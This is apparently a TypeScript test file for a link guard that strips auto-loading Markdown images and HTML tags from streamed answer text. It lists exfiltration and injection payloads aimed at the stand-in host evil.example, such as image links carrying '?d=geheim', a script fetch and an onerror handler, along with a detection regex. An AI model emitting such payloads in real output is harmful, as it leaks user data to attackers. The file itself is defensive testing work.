import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { endLinkGuard, guardLinks, type LinkGuard, startLinkGuard } from './link-guard.ts'

const known = (address: string) => address.startsWith('https://bekend.example/')

function guard(pieces: readonly string[]): { text: string; removed: number } {
  let state: LinkGuard = startLinkGuard(known)
  let text = ''
  let out = ''
  for (const piece of pieces) {
    ;[state, out] = guardLinks(state, piece)
    text += out
  }
  ;[state, out] = endLinkGuard(state)
  return { text: text + out, removed: state.removed }
}

const attacks = [
  '![x](https://evil.example/?d=geheim)',
  '![x](<https://evil.example/?d=geheim>)',
  '![x](//evil.example/a)',
  '![x](http:\\\\evil.example/a)',
  '![x](https://evil.example/a "titel")',
  '![x][r]\n\n[r]: https://evil.example/a',
  '![x][]\n\n[x]: https://evil.example/a',
  '![r]\n\n[r]: https://evil.example/a',
  '![a [b] c](https://evil.example/a)',
  '![a \\] c](https://evil.example/a)',
  '![x](https://evil.example/?d=' + 'a'.repeat(6000) + ')',
  '![' + 'a'.repeat(6000) + '](https://evil.example/a)',
  '![x](https://evil.example/a',
  '<img src="https://evil.example/a">',
  '<IMG SRC=https://evil.example/a onerror=alert(1)>',
  '<img srcset="//evil.example/a 1x">',
  '<svg><image href="https://evil.example/a"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<link rel=stylesheet href=https://evil.example/a>',
  '<script>fetch("https://evil.example")</script>',
  '<style>@import "https://evil.example/a"</style>',
  '<img src="https://evil.example/' + 'a'.repeat(6000) + '">',
  '<video poster="https://evil.example/a">',
]

/** What a Markdown or HTML reader would load by itself. */
const loads = /!\[|<(?:img|image|iframe|video|link|script|style|svg)\b/i

describe('the link guard', () => {
  it.each(attacks)('leaves nothing in %s that a reader loads by itself', (attack) => {
    const { text, removed } = guard([`Antwoord: ${attack} einde`])
    expect(text).not.toMatch(loads)
    expect(removed).toBeGreaterThan(0)
  })

  it.each([
    'Let op! Dit is belangrijk.',
    'Hallo![PERSOON-1·k7], welkom',
    'a < b en c > d, 3<4',
    '<b>vet</b> en <em>schuin</em>',
    '[gewone link](https://voorbeeld.example/pagina)',
    '![logo](/lokaal/logo.png)',
    '![foto](https://bekend.example/foto.png)',
    '```html\n<img src="https://evil.example/a">\n```\nklaar',
    'tekst met `![x](y)` niet',
  ])('keeps %s as it is', (text) => {
    expect(guard([text.replace('`![x](y)` ', '')]).text).toBe(text.replace('`![x](y)` ', ''))
  })

  it('guards again after a code fence is closed', () => {
    expect(guard(['```\ncode\n```\n![x](https://evil.example/a)']).text).not.toMatch(loads)
  })

  it('gives the same text for every way of cutting the answer in pieces', () => {
    const word = fc.constantFrom(
      ...attacks.filter((attack) => attack.length < 200),
      'gewoon ',
      '```',
      '\n',
      '! ',
      '<',
      '[PERSOON-1·k7]',
      '![',
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 6 }), fc.array(fc.nat(), { maxLength: 8 }), (words, cuts) => {
        const whole = words.join('')
        const at = [...new Set(cuts.map((cut) => cut % (whole.length + 1)))].sort((a, b) => a - b)
        const pieces = [0, ...at].map((start, i) => whole.slice(start, at[i] ?? whole.length))
        expect(guard(pieces)).toEqual(guard([whole]))
      }),
      { numRuns: 500 },
    )
  })
})
